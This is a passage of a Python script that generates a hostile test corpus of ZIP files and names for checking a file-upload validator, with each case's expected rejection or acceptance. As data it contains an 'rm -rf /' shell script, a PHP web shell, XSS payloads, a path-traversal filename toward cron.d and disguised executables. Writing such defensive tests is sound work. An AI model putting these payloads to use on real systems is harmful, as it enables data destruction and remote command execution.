        CasZip("elf-renomme-pdf", lambda: zip_de((NOM_1, ELF)), statut=T, acceptees=0),
        CasZip("exe-windows-renomme-pdf", lambda: zip_de((NOM_1, PE)), statut=T, acceptees=0),
        CasZip(
            "script-shell-renomme-pdf",
            lambda: zip_de((NOM_1, b"#!/bin/sh\nrm -rf / --no-preserve-root\n")),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "html-renomme-pdf",
            lambda: zip_de((NOM_1, b"<html><script>alert(1)</script></html>")),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "svg-renomme-png",
            lambda: zip_de((NOM_PNG, b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
            statut=T,
            acceptees=0,
        ),
        CasZip("php-renomme-jpg", lambda: zip_de((NOM_JPG, b"<?php system($_GET['c']); ?>")), statut=T, acceptees=0),
        CasZip("jpeg-renomme-png", lambda: zip_de((NOM_PNG, JPEG)), statut=T, acceptees=0),
        CasZip("pdf-renomme-jpg", lambda: zip_de((NOM_JPG, PDF)), statut=T, acceptees=0),
        CasZip(
            "trois-mo-exactement-stocke",
            lambda: zip_de((NOM_1, pdf_aleatoire(TROIS_MO)), compression=zipfile.ZIP_STORED),
            statut=T,
            acceptees=1,
        ),
        CasZip(
            "trois-mo-plus-un-stocke",
            lambda: zip_de((NOM_1, pdf_aleatoire(TROIS_MO + 1)), compression=zipfile.ZIP_STORED),
            statut=T,
            acceptees=0,
        ),
        CasZip(
            "trois-mo-plus-un-compresse", lambda: zip_de((NOM_1, pdf_de_taille(TROIS_MO + 1))), statut=T, acceptees=0
        ),
        CasZip(
            "2000-petites-entrees-et-la-bonne-piece",
            lambda: zip_de((NOM_1, PDF), *[(f"p{n}.pdf", b"x") for n in range(2000)]),
            statut=T,
            acceptees=1,
        ),
        CasZip(
            "20001-entrees",
            lambda: zip_de(*[(f"{n}.pdf", b"") for n in range(20_001)], compression=zipfile.ZIP_STORED),
            statut=R,
        ),
        CasZip(
            "5000-dossiers-et-la-bonne-piece",
            lambda: zip_de(*[(info(f"d{n}/"), b"") for n in range(5_000)], (NOM_1, PDF)),
            statut=T,
            acceptees=1,
        ),
        CasZip("repertoire-seul-de-60000-entrees", lambda: repertoire_seul(60_000), statut=R),
        CasZip("zip64-force", lambda: compresse_avec(zipfile.ZIP_DEFLATED, PDF), statut=T, acceptees=1),
        CasZip(
            "commentaire-de-65535-octets-plein-de-signatures",
            lambda: zip_de((NOM_1, PDF), commentaire=b"PK\x05\x06" * 16383 + b"xxx"),
            acceptees=None,
        ),
        CasZip("descripteurs-de-donnees", lambda: en_flux((NOM_1, PDF), (NOM_2, PDF)), statut=T, acceptees=2),
        CasZip(
            "champ-extra-corrompu",
            lambda: zip_de((_info_extra(NOM_1, struct.pack("<HH", 0x0001, 4) + b"\xff\xff"), PDF)),
        ),
        CasZip("version-requise-99", lambda: version_requise(zip_de((NOM_1, PDF)), 99), acceptees=0),
        CasZip(
            "nom-local-different-du-central",
            lambda: zip_de((NOM_1, PDF)).replace(NOM_1.encode(), NOM_2.encode(), 1),
            acceptees=0,
        ),
        CasZip("en-tete-local-hors-du-fichier", lambda: decalage_local(zip_de((NOM_1, PDF)), 0x7FFFFFF0), acceptees=0),
        CasZip("deflate-corrompu", lambda: _deflate_corrompu(), acceptees=0),
        CasZip("deflate-interrompu", lambda: _deflate_interrompu(), acceptees=0),
        CasZip(
            "nom-du-zip-remontee",
            lambda: zip_de((NOM_1, PDF)),
            nom_zip="../../../etc/cron.d/evil.zip",
            statut=T,
            acceptees=1,
        ),
        CasZip(
            "nom-du-zip-html",
            lambda: zip_de((NOM_1, PDF)),
            nom_zip="<script>alert(1)</script>.zip",
            statut=T,
            acceptees=1,
        ),
        CasZip(
            "nom-du-zip-400-caracteres", lambda: zip_de((NOM_1, PDF)), nom_zip="é" * 400 + ".zip", statut=T, acceptees=1
        ),
        CasZip("nom-du-zip-avec-nul", lambda: zip_de((NOM_1, PDF)), nom_zip="pie\x00ces.zip"),
        CasZip(
            "nom-du-zip-rtl-et-controles", lambda: zip_de((NOM_1, PDF)), nom_zip="\x1b[2J\u202epiz.exe", acceptees=1
        ),
        CasZip("nom-du-zip-exe", lambda: zip_de((NOM_1, PDF)), nom_zip="setup.exe", statut=T, acceptees=1),
    ]
    noms = [c.nom for c in cas]
    assert len(noms) == len(set(noms)), sorted(n for n in noms if noms.count(n) > 1)
    return cas


def _info_extra(nom: str, extra: bytes) -> zipfile.ZipInfo:
    resultat = info(nom)
    resultat.extra = extra
    return resultat


def _deflate_corrompu() -> bytes:
    """The compressed bytes of the entry replaced by garbage of the same length."""
    archive = bytearray(zip_de((NOM_1, pdf_de_taille(5000))))
    ((local, _central),) = entetes(bytes(archive))
    longueur_nom, longueur_extra = struct.unpack_from("<HH", archive, local + 26)
    debut = local + 30 + longueur_nom + longueur_extra
    taille = struct.unpack_from("<I", archive, local + 18)[0]
    archive[debut : debut + taille] = bytes((i * 7 + 3) % 256 for i in range(taille))
    return bytes(archive)


def _deflate_interrompu() -> bytes:
    """The deflate stream cut in half; sizes and directory adjusted to match."""
    contenu = pdf_de_taille(50_000, motif=bytes(range(256)))
    archive = zip_de((NOM_1, contenu))
    ((local, central),) = entetes(archive)
    longueur_nom, longueur_extra = struct.unpack_from("<HH", archive, local + 26)
    debut = local + 30 + longueur_nom + longueur_extra
    taille = struct.unpack_from("<I", archive, local + 18)[0]
    garde = taille // 2
    fin = archive.rindex(b"PK\x05\x06")
    repertoire = bytearray(archive[central:fin])
    struct.pack_into("<I", repertoire, 20, garde)
    entete_local = bytearray(archive[local:debut])
    struct.pack_into("<I", entete_local, 18, garde)
    corps = bytes(entete_local) + archive[debut : debut + garde]
    return corps + bytes(repertoire) + fin_classique(1, len(repertoire), len(corps))


# --- the corpus on disk, to replay it by hand ------------------------------------------------------


def ecrire(dossier: Path) -> tuple[int, int]:
    (dossier / "json").mkdir(parents=True, exist_ok=True)
    (dossier / "zip").mkdir(parents=True, exist_ok=True)
    json_cas, zip_cas = cas_json(), cas_zip()
    for cas in json_cas:
        (dossier / "json" / f"{cas.nom}.json").write_bytes(cas.contenu())
    for cas in zip_cas:
        (dossier / "zip" / f"{cas.nom}.zip").write_bytes(cas.contenu())
    return len(json_cas), len(zip_cas)


if __name__ == "__main__":
    import tempfile

    cible = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(tempfile.mkdtemp(prefix="corpus-hostile-"))
    nb_json, nb_zip = ecrire(cible)
    sys.stdout.write(f"{nb_json} fichiers JSON et {nb_zip} zips écrits dans {cible}\n")
